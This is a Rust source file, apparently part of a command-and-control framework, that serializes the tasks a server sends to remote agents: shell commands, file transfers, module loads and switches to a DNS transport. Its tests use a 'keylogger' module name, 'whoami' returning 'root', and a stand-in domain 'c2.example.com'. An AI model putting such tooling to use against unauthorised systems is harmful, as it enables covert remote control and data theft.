//! Wire encoding for a dispatched task and its result. Distinct from
//! [`super::payload::ProtocolSwitchPayload`], which is the body of one
//! particular [`super::task::TaskKind`]: this is the envelope every kind of
//! task travels in between the engine and the agent.

use crate::error::{Error, Result};
use crate::id::TaskId;

use super::payload::ProtocolSwitchPayload;
use super::task::{Task, TaskKind};

fn push_bytes16(out: &mut Vec<u8>, value: &[u8]) {
    out.extend_from_slice(&(value.len() as u16).to_be_bytes());
    out.extend_from_slice(value);
}

fn push_bytes32(out: &mut Vec<u8>, value: &[u8]) {
    out.extend_from_slice(&(value.len() as u32).to_be_bytes());
    out.extend_from_slice(value);
}

fn pop_bytes16<'a>(bytes: &'a [u8], cursor: &mut usize) -> Result<&'a [u8]> {
    let len = u16::from_be_bytes(
        bytes
            .get(*cursor..*cursor + 2)
            .ok_or_else(|| Error::protocol("task payload truncated before a 16-bit length"))?
            .try_into()
            .unwrap(),
    ) as usize;
    *cursor += 2;
    let value = bytes
        .get(*cursor..*cursor + len)
        .ok_or_else(|| Error::protocol("task payload truncated before its value"))?;
    *cursor += len;
    Ok(value)
}

fn pop_bytes32<'a>(bytes: &'a [u8], cursor: &mut usize) -> Result<&'a [u8]> {
    let len = u32::from_be_bytes(
        bytes
            .get(*cursor..*cursor + 4)
            .ok_or_else(|| Error::protocol("task payload truncated before a 32-bit length"))?
            .try_into()
            .unwrap(),
    ) as usize;
    *cursor += 4;
    let value = bytes
        .get(*cursor..*cursor + len)
        .ok_or_else(|| Error::protocol("task payload truncated before its value"))?;
    *cursor += len;
    Ok(value)
}

fn pop_string16(bytes: &[u8], cursor: &mut usize) -> Result<String> {
    String::from_utf8(pop_bytes16(bytes, cursor)?.to_vec())
        .map_err(|_| Error::protocol("task payload field is not utf-8"))
}

/// Serializes a task as `[task_id:16][kind_tag:1][kind body]`, the envelope
/// sent to an agent once [`super::engine::TaskEngine::dispatch_next`] picks
/// it.
///
/// `resolved_module` must be `Some` for a `ModuleLoad` task — the engine
/// resolves the name to its stored blob via `ModuleStore` before calling
/// this — and is ignored for every other kind.
pub fn encode_dispatch(task: &Task, resolved_module: Option<&[u8]>) -> Result<Vec<u8>> {
    let mut out = Vec::new();
    out.extend_from_slice(&task.id().to_bytes());
    match task.kind() {
        TaskKind::ShellExec { command } => {
            out.push(0);
            push_bytes16(&mut out, command.as_bytes());
        }
        TaskKind::FileDownload { remote_path } => {
            out.push(1);
            push_bytes16(&mut out, remote_path.as_bytes());
        }
        TaskKind::FileUpload { remote_path, data } => {
            out.push(2);
            push_bytes16(&mut out, remote_path.as_bytes());
            push_bytes32(&mut out, data);
        }
        TaskKind::ModuleLoad { name } => {
            let bytes = resolved_module
                .ok_or_else(|| Error::not_found(format!("module {name} not found")))?;
            out.push(3);
            push_bytes16(&mut out, name.as_bytes());
            push_bytes32(&mut out, bytes);
        }
        TaskKind::ModuleUnload { name } => {
            out.push(4);
            push_bytes16(&mut out, name.as_bytes());
        }
        TaskKind::Configure { key, value } => {
            out.push(5);
            push_bytes16(&mut out, key.as_bytes());
            push_bytes16(&mut out, value.as_bytes());
        }
        TaskKind::ProtocolSwitch { transport, port, domain, timeout_ms, flags } => {
            out.push(6);
            let payload = ProtocolSwitchPayload {
                transport: *transport,
                port: *port,
                domain: domain.clone(),
                timeout_ms: *timeout_ms,
                flags: *flags,
            };
            push_bytes32(&mut out, &payload.encode()?);
        }
    }
    Ok(out)
}

/// Reverses [`encode_dispatch`] far enough to identify which task a dispatch
/// envelope carries, for log correlation on the agent side. The server never
/// needs to decode its own dispatch, only build it; kept for completeness and
/// tested for parity with `encode_dispatch`.
pub fn decode_dispatch(bytes: &[u8]) -> Result<(TaskId, TaskKind)> {
    if bytes.len() < 17 {
        return Err(Error::protocol("task dispatch envelope truncated"));
    }
    let mut id_bytes = [0u8; 16];
    id_bytes.copy_from_slice(&bytes[0..16]);
    let id = TaskId::from_bytes(id_bytes);
    let tag = bytes[16];
    let mut cursor = 17usize;
    let kind = match tag {
        0 => TaskKind::ShellExec {
            command: pop_string16(bytes, &mut cursor)?,
        },
        1 => TaskKind::FileDownload {
            remote_path: pop_string16(bytes, &mut cursor)?,
        },
        2 => {
            let remote_path = pop_string16(bytes, &mut cursor)?;
            let data = pop_bytes32(bytes, &mut cursor)?.to_vec();
            TaskKind::FileUpload { remote_path, data }
        }
        3 => {
            let name = pop_string16(bytes, &mut cursor)?;
            // The resolved blob bytes that follow aren't re-exposed on
            // `TaskKind::ModuleLoad`, which only names the module.
            let _module_bytes = pop_bytes32(bytes, &mut cursor)?;
            TaskKind::ModuleLoad { name }
        }
        4 => TaskKind::ModuleUnload {
            name: pop_string16(bytes, &mut cursor)?,
        },
        5 => {
            let key = pop_string16(bytes, &mut cursor)?;
            let value = pop_string16(bytes, &mut cursor)?;
            TaskKind::Configure { key, value }
        }
        6 => {
            let payload = ProtocolSwitchPayload::decode(pop_bytes32(bytes, &mut cursor)?)?;
            TaskKind::ProtocolSwitch {
                transport: payload.transport,
                port: payload.port,
                domain: payload.domain,
                timeout_ms: payload.timeout_ms,
                flags: payload.flags,
            }
        }
        other => return Err(Error::protocol(format!("unknown task kind tag {other}"))),
    };
    Ok((id, kind))
}

/// Encodes a task result as `[task_id:16][status:1][output]`, the body of an
/// inbound [`super::super::frame::header::FrameKind::TaskResult`] frame.
pub fn encode_task_result(id: TaskId, success: bool, output: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(17 + output.len());
    out.extend_from_slice(&id.to_bytes());
    out.push(if success { 1 } else { 0 });
    out.extend_from_slice(output);
    out
}

pub fn decode_task_result(bytes: &[u8]) -> Result<(TaskId, bool, Vec<u8>)> {
    if bytes.len() < 17 {
        return Err(Error::protocol("task result envelope truncated"));
    }
    let mut id_bytes = [0u8; 16];
    id_bytes.copy_from_slice(&bytes[0..16]);
    let id = TaskId::from_bytes(id_bytes);
    let success = bytes[16] != 0;
    Ok((id, success, bytes[17..].to_vec()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::id::AgentId;
    use crate::transport::TransportKind;
    use std::time::Duration;

    fn task(kind: TaskKind) -> Task {
        Task::new(AgentId::new(), kind, Duration::from_secs(300))
    }

    #[test]
    fn shell_exec_round_trips() {
        let task = task(TaskKind::ShellExec { command: "whoami".into() });
        let encoded = encode_dispatch(&task, None).unwrap();
        let (id, kind) = decode_dispatch(&encoded).unwrap();
        assert_eq!(id, task.id());
        assert_eq!(kind, TaskKind::ShellExec { command: "whoami".into() });
    }

    #[test]
    fn file_upload_round_trips() {
        let task = task(TaskKind::FileUpload { remote_path: "/tmp/x".into(), data: vec![1, 2, 3, 4] });
        let (_, kind) = decode_dispatch(&encode_dispatch(&task, None).unwrap()).unwrap();
        assert_eq!(kind, TaskKind::FileUpload { remote_path: "/tmp/x".into(), data: vec![1, 2, 3, 4] });
    }

    #[test]
    fn module_load_round_trips_with_a_resolved_blob() {
        let task = task(TaskKind::ModuleLoad { name: "keylogger".into() });
        let encoded = encode_dispatch(&task, Some(&[1, 2, 3])).unwrap();
        let (_, kind) = decode_dispatch(&encoded).unwrap();
        assert_eq!(kind, TaskKind::ModuleLoad { name: "keylogger".into() });
    }

    #[test]
    fn module_load_without_a_resolved_blob_fails_to_encode() {
        let task = task(TaskKind::ModuleLoad { name: "ghost".into() });
        assert!(encode_dispatch(&task, None).is_err());
    }

    #[test]
    fn protocol_switch_round_trips() {
        let task = task(TaskKind::ProtocolSwitch {
            transport: TransportKind::Dns,
            port: 53,
            domain: "c2.example.com".into(),
            timeout_ms: 5_000,
            flags: 0,
        });
        let (_, kind) = decode_dispatch(&encode_dispatch(&task, None).unwrap()).unwrap();
        assert_eq!(
            kind,
            TaskKind::ProtocolSwitch {
                transport: TransportKind::Dns,
                port: 53,
                domain: "c2.example.com".into(),
                timeout_ms: 5_000,
                flags: 0,
            }
        );
    }

    #[test]
    fn task_result_round_trips() {
        let id = TaskId::new();
        let encoded = encode_task_result(id, true, b"root");
        let (decoded_id, success, output) = decode_task_result(&encoded).unwrap();
        assert_eq!(decoded_id, id);
        assert!(success);
        assert_eq!(output, b"root");
    }

    #[test]
    fn rejects_truncated_envelope() {
        assert!(decode_dispatch(&[0u8; 5]).is_err());
        assert!(decode_task_result(&[0u8; 5]).is_err());
    }
}
